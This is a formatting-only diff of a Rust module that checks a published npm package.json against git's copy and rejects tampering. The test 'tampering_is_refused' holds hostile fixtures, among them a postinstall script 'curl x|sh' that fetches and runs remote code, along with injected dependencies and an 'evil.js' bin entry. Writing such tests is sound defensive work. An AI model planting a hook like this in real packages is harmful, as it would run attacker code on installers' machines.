@@ -74,14 +74,15 @@ pub fn package_json(path: &str, content: &[u8], ctx: &CheckContext<'_>) -> Outco
             }
             continue;
         }
-        return Outcome::Fail(format!(
-            "changes {k:?}: git has {gv}, the archive {v}"
-        ));
+        return Outcome::Fail(format!("changes {k:?}: git has {gv}, the archive {v}"));
     }
     let dropped: Vec<&String> = git.keys().filter(|k| !archive.contains_key(*k)).collect();
     let mut note = "every key holds git's value".to_string();
     if !applied.is_empty() {
-        note.push_str(&format!("; publishConfig applied to {}", applied.join(", ")));
+        note.push_str(&format!(
+            "; publishConfig applied to {}",
+            applied.join(", ")
+        ));
     }
     if !dropped.is_empty() {
         let names: Vec<&str> = dropped.iter().map(|s| s.as_str()).collect();
@@ -130,8 +131,16 @@ fn subset_of(key: &str, git: &Value, archive: &Value) -> Result<(), String> {
     for (k, v) in a {
         match g.get(k) {
             Some(gv) if gv == v => {}
-            Some(gv) => return Err(format!("{key} changes {k:?}: git has {gv}, the archive {v}")),
-            None => return Err(format!("{key} adds {k:?}, which git's package.json does not have")),
+            Some(gv) => {
+                return Err(format!(
+                    "{key} changes {k:?}: git has {gv}, the archive {v}"
+                ))
+            }
+            None => {
+                return Err(format!(
+                    "{key} adds {k:?}, which git's package.json does not have"
+                ))
+            }
         }
     }
     Ok(())
@@ -161,11 +170,7 @@ fn published(git: &Map<String, Value>) -> Vec<String> {
     }
     out.into_iter()
         .filter(|s| !s.starts_with('!'))
-        .map(|s| {
-            s.trim_start_matches("./")
-                .trim_end_matches('/')
-                .to_string()
-        })
+        .map(|s| s.trim_start_matches("./").trim_end_matches('/').to_string())
         .filter(|s| !s.is_empty() && !s.contains(".."))
         .collect()
 }
@@ -263,7 +268,10 @@ mod tests {
             let pnpm = r#"{"name":"x","version":"1.0.0","main":"dist/index.js","files":["dist","lib/*.js"],
                 "dependencies":{"a":"^1.0.0","b":"^2.3.1"},"publishConfig":{"main":"dist/index.js","access":"public"}}"#;
             match package_json("package.json", pnpm.as_bytes(), ctx) {
-                Outcome::Pass(n) => assert!(n.contains("publishConfig applied to main") && n.contains("scripts"), "{n}"),
+                Outcome::Pass(n) => assert!(
+                    n.contains("publishConfig applied to main") && n.contains("scripts"),
+                    "{n}"
+                ),
                 o => panic!("{o:?}"),
             }
         });
@@ -273,20 +281,41 @@ mod tests {
     fn tampering_is_refused() {
         with_git(GIT, |ctx| {
             for (evil, what) in [
-                (r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}"#, "postinstall"),
+                (
+                    r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}"#,
+                    "postinstall",
+                ),
                 (r#"{"name":"x","version":"1.0.1"}"#, "version"),
-                (r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^1.0.0","evil":"1"}}"#, "evil"),
-                (r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^9.0.0"}}"#, "\"a\""),
-                (r#"{"name":"x","version":"1.0.0","bin":{"x":"evil.js"}}"#, "bin"),
-                (r#"{"name":"x","version":"1.0.0","scripts":{"test":"evil"}}"#, "test"),
+                (
+                    r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^1.0.0","evil":"1"}}"#,
+                    "evil",
+                ),
+                (
+                    r#"{"name":"x","version":"1.0.0","dependencies":{"a":"^9.0.0"}}"#,
+                    "\"a\"",
+                ),
+                (
+                    r#"{"name":"x","version":"1.0.0","bin":{"x":"evil.js"}}"#,
+                    "bin",
+                ),
+                (
+                    r#"{"name":"x","version":"1.0.0","scripts":{"test":"evil"}}"#,
+                    "test",
+                ),
             ] {
                 match package_json("package.json", evil.as_bytes(), ctx) {
                     Outcome::Fail(m) => assert!(m.contains(what), "{m}"),
                     o => panic!("{evil}: {o:?}"),
                 }
             }
-            assert!(matches!(package_json("package.json", b"[1]", ctx), Outcome::Fail(_)));
-            assert!(matches!(package_json("package.json", b"{", ctx), Outcome::Fail(_)));
+            assert!(matches!(
+                package_json("package.json", b"[1]", ctx),
+                Outcome::Fail(_)
+            ));
+            assert!(matches!(
+                package_json("package.json", b"{", ctx),
+                Outcome::Fail(_)
+            ));
         });
     }
 
